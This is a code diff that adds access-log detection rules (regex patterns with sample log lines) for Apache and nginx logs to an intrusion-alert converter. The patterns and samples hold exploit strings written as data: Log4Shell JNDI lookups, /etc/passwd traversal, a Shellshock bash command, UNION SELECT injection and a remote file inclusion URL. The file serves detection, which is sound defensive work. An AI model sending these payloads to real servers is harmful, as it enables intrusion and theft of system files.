@@ -646,6 +646,354 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
     }
   },
   {
+    "file": "src/converters/syslog/rules/applog-http-access.yaml",
+    "rules": [
+      {
+        "id": "http-access.exploit-in-request",
+        "programs": [
+          "http-access"
+        ],
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?=[^ \"]{0,4096}?(?<payload>\\$\\{jndi:|\\$%7[Bb]jndi|%24%7[Bb]jndi|/etc/passwd|/etc/shadow|%2[Ff]etc%2[Ff]passwd|\\.\\./\\.\\./|\\.\\.%2[Ff]\\.\\.|%2[Ee]%2[Ee]%2[Ff]|%2[Ee]%2[Ee]/|\\.%2[Ee]/|[Uu][Nn][Ii][Oo][Nn](?:\\+|%20|/\\*\\*/)(?:[Aa][Ll][Ll](?:\\+|%20))?[Ss][Ee][Ll][Ee][Cc][Tt]|<script|%3[Cc]script|eval-stdin\\.php|cmd\\.exe|/bin/sh|\\bwget(?:\\+|%20)http|\\bcurl(?:\\+|%20)http))(?<path>[^ \"]{1,4096}) HTTP/\\d\\.\\d\" (?<status>\\d{3}) ",
+        "category": [
+          "Access.Other"
+        ],
+        "priority": "Medium",
+        "description": "HTTP exploit attempt from {ip}: {method} {path} (answered {status})",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "http"
+        },
+        "samples": [
+          {
+            "line": "203.0.113.9 - - [12/Dec/2021:03:14:15 +0000] \"GET /?x=${jndi:ldap://198.51.100.1:1389/a} HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Priority": "Medium",
+              "Category": [
+                "Access.Other"
+              ],
+              "Source": [
+                {
+                  "IP": "203.0.113.9"
+                }
+              ],
+              "Target": [
+                {
+                  "Service": "http"
+                }
+              ],
+              "CreateTime": "2021-12-12T03:14:15+00:00"
+            }
+          },
+          {
+            "line": "203.0.113.10 - - [05/Oct/2021:10:00:00 +0200] \"GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1\" 400 226 \"-\" \"curl/7.79.1\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.10"
+                }
+              ],
+              "Description": "HTTP exploit attempt from 203.0.113.10: GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd (answered 400)"
+            }
+          },
+          {
+            "line": "2001:db8::77 - - [01/Feb/2024:08:00:00 +0000] \"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\" 404 153 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::77"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.30 - - [01/Feb/2024:08:00:00 +0000] \"GET /item.php?id=1+UNION+ALL+SELECT+1,2,3-- HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.30"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.31 - - [01/Feb/2024:08:00:00 +0000] \"GET /docs/union-select-guide.html HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
+            "expect": null
+          },
+          {
+            "line": "198.51.100.32 - - [01/Feb/2024:08:00:00 +0000] \"GET /etc/passwords-policy.html HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
+            "expect": null
+          }
+        ]
+      },
+      {
+        "id": "http-access.exploit-in-headers",
+        "programs": [
+          "http-access"
+        ],
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<request>[^\"]{0,4096})\" (?<status>\\d{3}) (?:\\d{1,20}|-) \"(?<referer>[^\"]{0,2048})\" \"(?=[^\"]{0,1024}?(?<payload>\\(\\) \\{|\\$\\{jndi:|\\$\\{\\$\\{))(?<ua>[^\"]{0,1024})\"",
+        "category": [
+          "Access.Other"
+        ],
+        "priority": "Medium",
+        "description": "HTTP exploit attempt from {ip} in a request header ({payload}): {request}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "http"
+        },
+        "samples": [
+          {
+            "line": "203.0.113.11 - - [25/Sep/2014:01:02:03 +0000] \"GET /cgi-bin/status HTTP/1.1\" 404 289 \"-\" \"() { :;}; /bin/bash -c \\\"cat /etc/passwd\\\"\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.11"
+                }
+              ],
+              "Priority": "Medium"
+            }
+          },
+          {
+            "line": "203.0.113.12 - - [12/Dec/2021:03:14:15 +0000] \"GET / HTTP/1.1\" 200 612 \"${jndi:ldap://198.51.100.1/x}\" \"${jndi:ldap://198.51.100.1/x}\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.12"
+                }
+              ]
+            }
+          }
+        ]
+      },
+      {
+        "id": "http-access.remote-file-inclusion",
+        "programs": [
+          "http-access"
+        ],
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?=[^ \"]{0,4096}?=(?:https?|ftp)://[^ \"?&=]{1,1024}\\?{1,2}(?:&[^ \"]{0,1024})? HTTP/)(?<path>[^ \"]{1,4096}) HTTP/\\d\\.\\d\" (?<status>\\d{3}) ",
+        "category": [
+          "Access.Other"
+        ],
+        "priority": "Medium",
+        "description": "HTTP remote file inclusion attempt from {ip}: {method} {path}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "http"
+        },
+        "samples": [
+          {
+            "line": "198.51.100.40 - - [04/Jan/2013:06:21:55 +0000] \"GET /index.php?n=http://malware.example.net/shell.txt? HTTP/1.1\" 200 1000 \"-\" \"libwww-perl/5.820\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.40"
+                }
+              ],
+              "Category": [
+                "Access.Other"
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.41 - - [04/Jan/2013:06:21:55 +0000] \"GET /login?next=https://www.example.org/account HTTP/1.1\" 302 0 \"-\" \"Mozilla/5.0\"",
+            "expect": null
+          }
+        ]
+      },
+      {
+        "id": "http-access.wordpress-login-failed",
+        "programs": [
+          "http-access"
+        ],
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"POST (?<path>/(?:[^ \"/]{1,64}/){0,4}wp-login\\.php) HTTP/\\d\\.\\d\" 200 ",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
+        "description": "WordPress login failed from {ip} ({path} answered 200; a success redirects)",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "http"
+        },
+        "samples": [
+          {
+            "line": "203.0.113.13 - - [10/Mar/2023:17:00:01 +0100] \"POST /wp-login.php HTTP/1.1\" 200 3997 \"https://blog.example.org/wp-login.php\" \"Mozilla/5.0 (Windows NT 10.0; Win64; x64)\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.13"
+                }
+              ],
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Medium"
+            }
+          },
+          {
+            "line": "203.0.113.14 - - [10/Mar/2023:17:00:01 +0100] \"POST /wp-login.php HTTP/1.1\" 302 0 \"-\" \"Mozilla/5.0\"",
+            "expect": null
+          }
+        ]
+      },
+      {
+        "id": "http-access.scanner-user-agent",
+        "programs": [
+          "http-access"
+        ],
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<request>[^\"]{0,4096})\" (?<status>\\d{3}) (?:\\d{1,20}|-) \"[^\"]{0,2048}\" \"(?=[^\"]{0,1024}?(?<tool>sqlmap|[Nn]ikto|Nmap Scripting Engine|masscan|zgrab|[Nn]uclei|WPScan|DirBuster|gobuster|Netsparker|Acunetix|w3af\\.org|Havij|ZmEu|Morfeus|fimap|Wfuzz|Fuzz Faster U Fool|feroxbuster|OpenVAS|Jorgee|l9explore|l9tcpid|CensysInspect|masscan-ng))(?<ua>[^\"]{0,1024})\"",
+        "category": [
+          "Recon.Network"
+        ],
+        "priority": "Low",
+        "description": "HTTP scan from {ip} by {tool}: {request}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "http"
+        },
+        "samples": [
+          {
+            "line": "198.51.100.50 - - [18/Apr/2022:22:01:07 +0000] \"GET /index.php?id=1%27 HTTP/1.1\" 200 512 \"-\" \"sqlmap/1.6.4#stable (https://sqlmap.org)\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.50"
+                }
+              ],
+              "Priority": "Low",
+              "Description": "HTTP scan from 198.51.100.50 by sqlmap: GET /index.php?id=1%27 HTTP/1.1"
+            }
+          },
+          {
+            "line": "198.51.100.51 - - [18/Apr/2022:22:01:07 +0000] \"GET /nmaplowercheck1650312067 HTTP/1.1\" 404 196 \"-\" \"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.51"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.52 - - [18/Apr/2022:22:01:07 +0000] \"GET / HTTP/1.1\" 200 612 \"-\" \"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/100.0 Safari/537.36\"",
+            "expect": null
+          }
+        ]
+      },
+      {
+        "id": "http-access.harvester-user-agent",
+        "programs": [
+          "http-access"
+        ],
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<request>[^\"]{0,4096})\" (?<status>\\d{3}) (?:\\d{1,20}|-) \"[^\"]{0,2048}\" \"(?=[^\"]{0,1024}?(?<bot>EmailCollector|EmailSiphon|EmailWolf|ExtractorPro|WebEMailExtrac|Atomic_Email_Hunter|CherryPicker|Crescent Internet ToolPak|Franklin Locator|NICErsPRO|WebBandit|Microsoft URL Control|Advanced Email Extractor|Indy Library|TrackBack/1\\.02))(?<ua>[^\"]{0,1024})\"",
+        "category": [
+          "Recon.Network"
+        ],
+        "priority": "Low",
+        "description": "HTTP request from {ip} by the harvesting robot {bot}: {request}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "http"
+        },
+        "samples": [
+          {
+            "line": "198.51.100.60 - - [01/Jan/2020:00:00:01 +0000] \"GET /contact.html HTTP/1.0\" 200 2300 \"-\" \"EmailCollector/1.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.60"
+                }
+              ],
+              "Priority": "Low"
+            }
+          },
+          {
+            "line": "198.51.100.61 - - [01/Jan/2020:00:00:01 +0000] \"GET / HTTP/1.0\" 200 2300 \"-\" \"Mozilla/3.0 (compatible; Indy Library)\"",
+            "expect": {
+              "Description": "HTTP request from 198.51.100.61 by the harvesting robot Indy Library: GET / HTTP/1.0"
+            }
+          }
+        ]
+      },
+      {
+        "id": "http-access.probe-path",
+        "programs": [
+          "http-access"
+        ],
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?<path>(?:/[^ \"/]{0,128}){0,6}/(?:\\.env|\\.git/|\\.aws/|\\.ssh/|\\.DS_Store|\\.svn/|wp-login\\.php|wp-admin|xmlrpc\\.php|phpmyadmin|phpMyAdmin|pma/|myadmin|mysqladmin|HNAP1|boaform|GponForm|cgi-bin/|actuator/|solr/|manager/html|owa/auth|_ignition|vendor/phpunit|setup\\.cgi|shell\\?)[^ \"]{0,2048}) HTTP/\\d\\.\\d\" (?<status>4\\d\\d) ",
+        "category": [
+          "Recon.Network"
+        ],
+        "priority": "Low",
+        "description": "HTTP probe from {ip} for {path} (answered {status})",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "http"
+        },
+        "samples": [
+          {
+            "line": "198.51.100.70 - - [02/Mar/2024:11:11:11 +0000] \"GET /.env HTTP/1.1\" 404 162 \"-\" \"Mozilla/5.0 (X11; Linux x86_64)\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.70"
+                }
+              ],
+              "Category": [
+                "Recon.Network"
+              ],
+              "Priority": "Low"
+            }
+          },
+          {
+            "line": "198.51.100.71 - - [02/Mar/2024:11:11:11 +0000] \"GET /phpmyadmin/index.php HTTP/1.1\" 404 162 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Description": "HTTP probe from 198.51.100.71 for /phpmyadmin/index.php (answered 404)"
+            }
+          },
+          {
+            "line": "198.51.100.72 - - [02/Mar/2024:11:11:11 +0000] \"GET /wp-login.php HTTP/1.1\" 200 4000 \"-\" \"Mozilla/5.0\"",
+            "expect": null
+          },
+          {
+            "line": "198.51.100.73 - - [02/Mar/2024:11:11:11 +0000] \"GET /favicon.ico HTTP/1.1\" 404 162 \"-\" \"Mozilla/5.0\"",
+            "expect": null
+          }
+        ]
+      }
+    ],
+    "logformat": {
+      "program": "http-access",
+      "aliases": [
+        "access-log",
+        "apache-access",
+        "nginx-access",
+        "combined",
+        "clf"
+      ],
+      "description": "web server access log (Common / Combined Log Format: Apache httpd, nginx)",
+      "lines": [
+        {
+          "prefix": "^(?=[0-9A-Fa-f:.]{2,45} [^ ]{1,64} [^ ]{1,256} \\[(?<time>\\d\\d/[A-Z][a-z]{2}/\\d{4}:\\d\\d:\\d\\d:\\d\\d [+-]\\d{4})\\] \")",
+          "time": "DD/MMM/YYYY:hh:mm:ss Z"
+        }
+      ]
+    }
+  },
+  {
     "file": "src/converters/syslog/rules/applog-mongodb.yaml",
     "rules": [],
     "logformat": {
